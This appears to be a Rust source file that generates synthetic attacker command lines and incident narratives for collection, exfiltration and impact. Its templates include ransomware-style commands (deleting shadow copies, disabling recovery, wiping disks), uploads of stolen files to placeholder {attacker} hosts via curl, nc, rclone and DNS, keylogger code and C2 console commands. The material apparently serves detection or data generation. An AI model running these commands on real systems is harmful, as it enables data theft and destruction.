//! Collection, exfiltration and impact: archives, screens, mail, uploads, ransom.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("collection", "collection-archive", Cmd, &[
        concat!(
            r#"«7z¦7za¦7z.exe¦"C:\Program Files\7-Zip\7z.exe"¦{dir}\{alnum3}.exe» a «-p{password} ¦-mhe=on "#,
            r"-p{password} ¦-v{10..900}m ¦-mx9 ¦-r ¦»{dir}\{stem}.«7z¦zip» {w}",
        ),
        concat!(
            r#"«rar¦rar.exe¦WinRAR.exe¦{dir}\rar.exe¦"C:\Program Files\WinRAR\Rar.exe"» a «-hp{password} "#,
            r"¦-v{1..900}m ¦-r ¦-m5 ¦-dh ¦-inul ¦-ta{digit8} »{dir}\{stem}.rar {w}",
        ),
        r"tar -«czf¦cvf¦a -c -f» {dir}\{stem}.«zip¦tar.gz¦tar» {w}",
        r"powershell Compress-Archive -Path {w} -DestinationPath {dir}\{stem}.zip -Force",
        r"makecab /F {dir}\{stem}.ddf & makecab {dir}\{stem}.txt {dir}\{stem}.cab",
        r"xcopy {w} {dir}\{stem}\ /«s /e /y¦h /i /c /k /e /r /y»",
        concat!(
            r"robocopy C:\Users\{user}\Documents {dir}\{stem} «*.docx *.xlsx *.pdf¦*.pst *.ost¦*.kdbx /s» /s ",
            "/r:0 /w:0« /maxage:{10..365}»",
        ),
        r#"forfiles /p C:\Users /s /m *.«docx¦xlsx¦pdf¦kdbx¦pst» /c "cmd /c copy @path {dir}""#,
        r#"for /r C:\Users %f in (*.«docx¦pdf¦xlsx¦ppk») do @copy "%f" {dir}\ >nul"#,
        r"dir /s /b C:\Users\*.«docx¦pst¦kdbx¦pfx» > {dir}\{stem}.txt",
        r#"findstr /s /i /m "confidential invoice secret" C:\Users\*.docx > {outfile}"#,
        r"psr.exe /start /output {dir}\{stem}.zip /sc 1 /gui 0 & ping -n {10..60} 127.0.0.1 & psr.exe /stop",
        concat!(
            r"«nircmd.exe savescreenshot {dir}\{stem}.png¦screenCapture.bat {stem}.png¦ffmpeg.exe -f gdigrab ",
            r"-i desktop -t {10..90} {dir}\{stem}.mp4¦SoundRecorder /FILE {stem}.wma /DURATION ",
            "0000:{10..59}:00¦SharpCapture.exe¦IrfanView.exe /capture=1 /convert={stem}.jpg»",
        ),
        "clip < {stem}.txt & powershell Get-Clipboard > {outfile}",
        concat!(
            r"copy «C:\Users\{user}\AppData\Local\Microsoft\Outlook\{user}.ost¦\\{host}\{share}\{stem}.xlsx¦{d",
            r"ocfile}¦{shadowother}» {dir}\",
        ),
        r"SharpMapExec.exe & Snaffler.exe -s -o {dir}\{stem}.log -u -v data",
        r#"sqlcmd -S {host} -d {stem} -Q "select * from {stem}" -o {outfile} -s ",""#,
        r#"bcp "select * from {stem}.dbo.users" queryout {dir}\{stem}.csv -c -T -S {host}"#,
        r"mysqldump -u root -p{password} --all-databases > {dir}\{stem}.sql",
        r"netsh trace start capture=yes tracefile={dir}\{stem}.etl maxsize={100..900} & netsh trace stop",
        r"pktmon start --etw -c -f {dir}\{stem}.etl & pktmon stop",
        r"«tshark¦dumpcap¦windump¦RawCap.exe¦NetworkMiner» -i {1..5} -w {dir}\{stem}.pcap",
        r"hh {docfile} & type {dir}\{stem}.txt | more",
    ])
    .slots(&[
        ("w", concat!(
                r"«C:\Users\{user}\Documents¦C:\Users\{user}\Documents\*.docx¦{dir}\*¦\\{host}\{share}\{stem}¦D:\{",
                r#"stem}¦C:\inetpub\wwwroot¦"C:\Users\{user}\AppData\Local\Google\Chrome\User "#,
                r#"Data"¦{dir}\lsass.dmp¦{dir}\ntds.dit¦C:\Users\{user}\Desktop\*.xlsx¦{docfile}»"#,
            )),
    ])
    .weight(11),
    Family::other("collection", "collection-powershell", Ps, &[
        concat!(
            r"Get-ChildItem «C:\Users¦\\{host}\{share}¦D:\» -Recurse -Include *.docx,*.xlsx,*.pdf,*.kdbx -ea ",
            "0 | «Copy-Item -Destination {psdir}¦Select FullName, Length | Export-Csv {psout}¦? { ",
            "$_.LastWriteTime -gt (Get-Date).AddDays(-{7..365}) }»",
        ),
        concat!(
            r"Compress-Archive -Path «C:\Users\{user}\Documents\*¦{psdir}\*¦$files» -DestinationPath ",
            r"{psdir}\{stem}.zip« -CompressionLevel Fastest»« -Force»",
        ),
        concat!(
            "Add-Type -AssemblyName System.Windows.Forms,System.Drawing; $b = ",
            "[Windows.Forms.Screen]::PrimaryScreen.Bounds; $i = New-Object Drawing.Bitmap $b.Width, ",
            "$b.Height; $g = [Drawing.Graphics]::FromImage($i); $g.CopyFromScreen($b.Location, ",
            r"[Drawing.Point]::Empty, $b.Size); $i.Save('{dir}\{stem}.png')",
        ),
        "Get-Keystrokes -LogPath {psout}« -Timeout {1..60}»",
        "Get-TimedScreenshot -Path {psdir} -Interval {5..60} -EndTime {10..23}:{10..59}",
        r"Get-MicrophoneAudio -Path {psdir}\{stem}.wav -Length {10..90}; Get-Clipboard | Out-File {psout}",
        "while ($true) { Get-Clipboard | Add-Content {psout}; Start-Sleep {1..30} }",
        concat!(
            "$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI'); ",
            "$n.GetDefaultFolder(6).Items | ? { $_.Subject -match '{stem}' } | select Subject, Body",
        ),
        concat!(
            "Get-Mailbox -ResultSize Unlimited | Search-Mailbox -SearchQuery 'password' -TargetMailbox ",
            "{user} -TargetFolder {stem}",
        ),
        r"New-MailboxExportRequest -Mailbox {user} -FilePath \\{host}\{share}\{user}.pst",
        "Invoke-SelfSearch -Mailbox {user}@{domain} -Terms '*password*','*vpn*'",
        "Invoke-SQLDumpInfo; Get-SQLColumnSampleDataThreaded -Keywords 'card, password' -SampleSize {1..10}",
        concat!(
            r#"$k = Add-Type -MemberDefinition '[DllImport("user32.dll")] public static extern short "#,
            "GetAsyncKeyState(int k);' -Name {alnum4} -Namespace {alnum4} -PassThru; while(1){ 8..255 | % { ",
            "if ($k::GetAsyncKeyState($_) -eq -32767) { [char]$_ | Add-Content {psout} } } }",
        ),
        r"Invoke-RestMethod -Uri {url} -Method Post -InFile {psdir}\{stem}.zip",
        r"(New-Object Net.WebClient).UploadFile('{url}', '{dir}\{stem}.{anyext}')",
        concat!(
            r"$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes('{dir}\{stem}.{anyext}')); ",
            "Invoke-WebRequest {url} -Method POST -Body $b",
        ),
        concat!(
            "Send-MailMessage -From {user}@{domain} -To {first}@{domain} -Subject {stem} -Attachments ",
            r"{psdir}\{stem}.zip -SmtpServer {ip}",
        ),
        r#"1..{10..900} | % { Resolve-DnsName "$($b.Substring($_*30,30)).{fqdn}" }"#,
        concat!(
            r"Copy-Item {psdir}\{stem}.zip \\{attacker}\{share}; Start-BitsTransfer -Source ",
            r"{psdir}\{stem}.zip -Destination {url} -TransferType Upload",
        ),
        concat!(
            "$c = Get-Credential; $r = Invoke-RestMethod 'https://api.«telegram.org/bot{digit9}:{alnum32}/sen",
            "dDocument¦dropboxapi.com/2/files/upload¦github.com/repos/{first}/{stem}/contents/{stem}»' ",
            r"-Method Post -InFile {psdir}\{stem}.zip",
        ),
    ])
    .weight(8),
    Family::other("exfiltration", "exfiltration", Cmd, &[
        concat!(
            r#"curl«.exe» «-T {w} {url}¦-F "file=@{w}" {url}¦--upload-file {w} https://transfer.sh/{stem}¦-X "#,
            "POST --data-binary @{w} http://{attacker}:{port}/¦-k -u {user}:{password} -T {w} ",
            "ftp://{attacker}/¦-s -d @{w} https://{site}/upload»",
        ),
        concat!(
            r"«rclone¦rclone.exe¦{dir}\{alnum5}.exe» «copy¦sync¦move» «{dir}¦\\{host}\{share}¦D:\{stem}» ",
            r"«mega¦remote¦s3¦gdrive¦dropbox¦ftp1»:{stem}« --config {dir}\rclone.conf»« --transfers {4..40}»« ",
            "--max-age {1..24}M»« -q --ignore-existing --no-check-certificate»",
        ),
        "MEGAsync.exe & mega-put {w} /{stem}",
        concat!(
            r#"«winscp.com¦WinSCP.exe» /command "open sftp://{user}:{password}@{attacker}/ -hostkey=*" "put "#,
            r#"{w}" exit"#,
        ),
        "pscp.exe -pw {password} {w} {user}@{attacker}:/tmp/",
        "ftp -n -s:{stem}.txt {attacker}",
        "bitsadmin /transfer {stem} /upload /priority high {url} {w}",
        r"copy {w} \\{attacker}\{share}\",
        r"net use {link} \\{attacker}\{share} /user:{user} {password} & copy {w} {link}\",
        r#"azcopy copy "{w}" "https://{stem}.blob.core.windows.net/{stem}?sv={isodate}&sig={alnum32}""#,
        "aws s3 cp {w} s3://{company}-{stem}/ & gsutil cp {w} gs://{stem}",
        r#"powershell "(New-Object Net.WebClient).UploadFile('{url}','{w}')""#,
        "certutil -encode {w} {stem}.b64 & for /f %l in ({stem}.b64) do nslookup %l.{fqdn}",
        "ConfigSecurityPolicy.exe {w} {url} & DataSvcUtil.exe /out:{w} /uri:{url}",
        "dnscat2.exe --dns domain={fqdn} --secret {alnum12}",
        "type {w} | nc.exe {attacker} {port}",
        "nc.exe -w 3 {attacker} {port} < {w}",
        "scp {w} {user}@{attacker}:{stem}",
        r#"FileZilla.exe -u "{stem}" & restic.exe -r rest:http://{attacker}:{port}/ init"#,
        "exfil.exe --input {w} --key {alnum16} --url {url}",
    ])
    .slots(&[
        ("w", concat!(
                r"«{dir}\{stem}.«zip¦7z¦rar¦cab»¦{dir}\{stem}.{anyext}¦{docfile}¦{dir}\lsass.dmp¦{dir}\{stem}.pst¦",
                r"{dir}\{stem}.part{1..9}.rar»",
            )),
    ]),
    Family::other("impact", "impact", Cmd, &[
        concat!(
            "vssadmin«.exe» «delete shadows /all /quiet¦Delete Shadows /for=C: /all¦resize shadowstorage ",
            "/for=C: /on=C: /maxsize=401MB»« & wmic shadowcopy delete»« & wbadmin delete catalog -quiet»",
        ),
        "wmic« /node:{host}» shadowcopy delete« /nointeractive»",
        "bcdedit /set {lb}default} «recoveryenabled no¦bootstatuspolicy ignoreallfailures»",
        "wbadmin delete «catalog -quiet¦systemstatebackup -keepversions:0¦backup -keepVersions:0 -quiet»",
        concat!(
            r#"cmd.exe /c "vssadmin delete shadows /all /quiet & bcdedit /set {lb}default} recoveryenabled no "#,
            r#"& wbadmin delete catalog -quiet""#,
        ),
        r#"powershell -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete(); }""#,
        r#"schtasks /change /tn "\Microsoft\Windows\SystemRestore\SR" /disable"#,
        concat!(
            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore" /v DisableSR /t REG_DWORD "#,
            "/d 1 /f",
        ),
        concat!(
            r#"net stop «"SQLSERVERAGENT"¦MSSQLSERVER¦VeeamBackupSvc¦vss¦"Acronis VSS "#,
            r#"Provider"¦BackupExecJobEngine¦MSExchangeIS¦SstpSvc¦samss /y» /y"#,
        ),
        concat!(
            "taskkill /f /im «sqlservr.exe¦outlook.exe¦winword.exe¦veeam*¦mysqld.exe¦oracle.exe¦vmms.exe¦thun",
            "derbird.exe»",
        ),
        concat!(
            r"«{dir}\{stem}.exe¦{stem}.exe¦\\{host}\{share}\{stem}.exe» «--encrypt -p {dir}¦-path \\{host}\C$ ",
            "-pass {alnum32}¦-n -k {alnum16} -a all¦--mode full --threads {2..16}¦/f /local ",
            "/key:{alnum16}¦--access-token {alnum32} --propagated»",
        ),
        r#"icacls "C:\*" /grant Everyone:F /T /C /Q"#,
        "cipher /w:C: & sdelete64 -z C: & format D: /q /y",
        concat!(
            "«manage-bde -on C: -pw¦manage-bde -protectors -add C: -pw {password}¦diskpart /s ",
            r"{dir}\{stem}.txt¦bootsect /nt60 all /mbr»",
        ),
        "echo select disk {0..3}> {stem}.txt & echo clean>> {stem}.txt & diskpart /s {stem}.txt",
        concat!(
            r"del /s /f /q «C:\*.VHD C:\*.bac C:\*.bak C:\*.wbcat C:\*.bkf ",
            r"D:\Backup*.*¦\\{host}\C$\*.*¦C:\Windows\*.*»",
        ),
        r"shutdown /«r¦s» /f /t {0..10}« /m \\{host}»",
        concat!(
            r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v ",
            r#"legalnotice«caption¦text» /t REG_SZ /d "{stem}" /f"#,
        ),
        concat!(
            r#"reg add "HKCU\Control Panel\Desktop" /v Wallpaper /t REG_SZ /d {dir}\{stem}.bmp /f & rundll32 "#,
            "user32.dll,UpdatePerUserSystemParameters",
        ),
        "xmrig.exe -o {fqdn}:{port} -u {alnum32} -p x --donate-level 1« -k --tls»",
        "net user {user} {password} & net user {user} /active:no & logoff {1..9}",
        r#"wmic useraccount where "name='{user}'" call rename "{stem}""#,
        r"rmdir /s /q \\{host}\{share} & fsutil behavior set SymlinkEvaluation R2L:1",
        "esxcli vm process kill --type=force --world-id={pid}",
        r#"powershell -c "Get-VM | Stop-VM -TurnOff -Force; Get-VM | Remove-VM -Force""#,
        "fsutil file setZeroData offset=0 length={100000..900000} {docfile}",
    ])
    .slots(&[
        ("lb", "{"),
    ])
    .weight(12),
    Family::other("collection-console", "impact-console", Console, &[
        concat!(
            "beacon> «screenshot¦screenwatch {pid}¦keylogger¦keylogger {pid} x64¦clipboard¦download ",
            r"{docfile}¦download {dir}\{stem}.zip¦printscreen¦desktop high¦browserpivot {pid} x64¦jobs¦shell ",
            r"7z a {dir}\{stem}.7z C:\Users\{user}\Documents¦execute-assembly {shdir}/Snaffler.exe -s -o ",
            "{stem}.log¦shell vssadmin delete shadows /all /quiet¦file_browser¦downloads¦cancel *¦ls ",
            r"\\{host}\{share}¦net share \\{host}»",
        ),
        concat!(
            "meterpreter > «screenshot¦screenshare¦keyscan_start¦keyscan_dump¦keyscan_stop¦record_mic -d ",
            r"{5..60}¦webcam_snap¦webcam_stream¦download C:\\Users\\{user}\\Documents\\{stem}.docx¦search -f ",
            "*.xlsx¦run post/windows/capture/keylog_recorder¦run post/windows/gather/outlook¦run ",
            "post/multi/gather/thunderbird_creds¦clipboard_monitor_start¦run ",
            "post/windows/gather/enum_files¦reboot¦shutdown»",
        ),
        concat!(
            r"sliver ({ALNUM8}) > «screenshot¦download C:\\Users\\{user}\\{stem}.docx¦keylogger ",
            r"start¦clipboard¦execute -o tar -cf {stem}.tar C:\\Users\\{user}\\Documents¦loot local ",
            "{stem}.zip¦cat {stem}.txt¦head {stem}.log»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule powershell/«collection/keylogger¦collection/screenshot¦collection",
            "/clipboard_monitor¦collection/packet_capture¦collection/WebcamRecorder¦collection/USBKeylogger¦c",
            "ollection/find_interesting_file¦exfiltration/exfil_dropbox¦exfiltration/egresscheck¦trollsploit/",
            "message¦trollsploit/wallpaper»⏎execute",
        ),
        concat!(
            r"demon > «screenshot¦download {docfile}¦keylogger start¦clipboard¦dir \\{host}\{share}¦cat ",
            r"C:\Users\{user}\{stem}.txt¦transfer list»",
        ),
        concat!(
            "mythic> «screenshot¦download {docfile}¦keylog_inject {pid} x64¦clipboard¦ls ",
            r"\\\\{host}\\{share}¦screenshot_inject {pid} 5»",
        ),
        concat!(
            "covenant> «ScreenShot¦Keylogger {10..90}¦Download {docfile}¦SharpCapture¦ListDirectory ",
            r"\\{host}\{share}¦ReadTextFile {dir}\{stem}.txt»",
        ),
        concat!(
            "koadic: sta> use implant/«gather/clipboard¦util/download_file¦util/upload_file¦manage/exec_cmd¦f",
            "un/thunderstruck»⏎set ZOMBIE {0..9}⏎run",
        ),
    ])
    .weight(7),
    Family::other("impact", "impact-told", Told, &[
        concat!(
            "{who} «collected¦archived¦copied¦stole» «documents from {host}¦{1..900} files¦the mailbox of ",
            "{user}¦the SQL database {stem}¦source code¦screenshots¦keystrokes of {user}¦the backup of ",
            r"{plainhost}» «into {dir}\{stem}.zip¦with 7-Zip¦with rclone¦over HTTPS¦to {ip}¦»{where}.",
        ),
        concat!(
            "{who} «uploaded¦exfiltrated» {1..900} «MB¦GB» to «{ip}¦Mega¦a Dropbox account¦an S3 bucket¦an ",
            "FTP server» with «rclone¦curl¦WinSCP¦MEGAsync¦a custom tool¦PowerShell».",
        ),
        "{who} deleted all «volume shadow copies¦backups¦restore points¦virtual machines»{where}.",
        concat!(
            "{who} «encrypted {10..90000} files¦deployed ransomware¦wiped the disk¦rebooted the ",
            "machine¦stopped the SQL service¦changed the passwords of all administrators¦defaced the web ",
            "site¦started a coin miner»{where}.",
        ),
        "A ransom note {stem}.txt was written to {dir} and every file got the extension .{alnum5}.",
        concat!(
            "«Alert¦Detection»: «mass file modification¦shadow copy deletion¦inhibit system recovery¦data ",
            "staged¦unusual upload volume¦ransomware behavior¦service stop» {where}",
        ),
        "vssadmin.exe deleted all shadow copies «quietly ¦»(parent {stem}.exe){where}.",
        "{plainhost} sent {1..90} GB to {ip}:{port} between {clock} and {clock}.",
        r"A keylogger {stem}.exe recorded keystrokes to {dir}\{stem}.log{where}.",
        "{1..400} MB archive {stem}.rar with a password was created{where}.",
    ])
    .weight(7),
];
